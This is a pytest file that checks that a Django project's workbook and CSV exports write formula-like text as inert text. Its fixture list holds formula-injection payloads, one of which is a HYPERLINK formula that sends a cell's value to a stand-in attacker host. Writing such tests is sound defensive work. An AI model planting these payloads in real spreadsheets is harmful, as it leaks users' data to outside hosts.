"""Text that a spreadsheet would run is written as text, in every export."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from indicators.models import Result
from tests.factories import (
    AcceleratingActionFactory,
    CustodianUnitFactory,
    ResultFactory,
    TargetFactory,
    UserFactory,
)
from workbooks.appendix import appendix_bytes, appendix_for
from workbooks.cells import csv_text, write_text
from workbooks.data_workbook import data_workbook_bytes
from workbooks.importing.annotating import annotated_workbook
from workbooks.importing.problems import Problem

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tTAB",
    "\r=1",
]


def _texts(content: bytes) -> dict[str, tuple[str, str, bool]]:
    """Every non-empty cell as (value, data type, quote prefix), by its text."""
    found = {}
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.value, cell.data_type, cell.quotePrefix)
    return found


@pytest.fixture
def dangerous_plan(db):
    unit = CustodianUnitFactory(name=DANGEROUS[1])
    target = TargetFactory(custodians=[unit], text=DANGEROUS[2])
    ResultFactory(
        target=target,
        year=2020,
        value=None,
        statement=DANGEROUS[3],
        explanation="Note: " + DANGEROUS[0],
        review_state=Result.ReviewState.APPROVED,
    )
    AcceleratingActionFactory(target=target, custodian=unit, text=DANGEROUS[0])
    AcceleratingActionFactory(target=target, custodian=unit, text=DANGEROUS[4])
    AcceleratingActionFactory(target=target, custodian=unit, text=DANGEROUS[5])
    return target


def test_the_cell_helper_writes_text_as_text():
    sheet = Workbook().active
    for row, text in enumerate(DANGEROUS, start=1):
        write_text(sheet.cell(row=row, column=1), text)
    for row, text in enumerate(DANGEROUS, start=1):
        cell = sheet.cell(row=row, column=1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    plain = write_text(sheet.cell(row=9, column=1), "Plain words")
    assert plain.quotePrefix is False


def test_csv_fields_get_an_apostrophe():
    assert [csv_text(t)[0] for t in DANGEROUS] == ["'"] * len(DANGEROUS)
    assert csv_text("Plain") == "Plain"
    assert csv_text("\nline") == "'\nline"


def test_the_appendix_writes_dangerous_text_as_text(dangerous_plan):
    target = dangerous_plan
    appendix = appendix_for(
        user=UserFactory(is_superuser=True),
        plan=target.indicator.section.plan,
        phase=target.phase,
        year=2020,
        only_off_track=False,
    )
    cells = _texts(appendix_bytes(appendix))
    for text in (DANGEROUS[1], DANGEROUS[3]):
        assert cells[text][1:] == ("s", True)
    actions = next(v for k, v in cells.items() if k.startswith("• =HYPERLINK"))
    assert actions[1] == "s"
    assert not any(data_type == "f" for _, data_type, _ in cells.values())


def test_the_data_workbook_writes_dangerous_text_as_text(dangerous_plan):
    target = dangerous_plan
    content = data_workbook_bytes(
        user=UserFactory(is_superuser=True), plan=target.indicator.section.plan, year=2020
    )
    cells = _texts(content)
    for text in DANGEROUS:
        # XML reads a carriage return back as a line feed; the cell stays text all the same.
        assert cells[text.replace("\r", "\n")][1:] == ("s", True), text
    assert not any(data_type == "f" for _, data_type, _ in cells.values())


def test_the_marked_workbook_writes_problems_as_text():
    sheet = Workbook()
    buffer = BytesIO()
    sheet.save(buffer)
    content = annotated_workbook(
        buffer.getvalue(), [Problem(DANGEROUS[0], sheet="Sheet", row=1, column="A")]
    )
    cells = _texts(content)
    assert cells[DANGEROUS[0]][1:] == ("s", True)
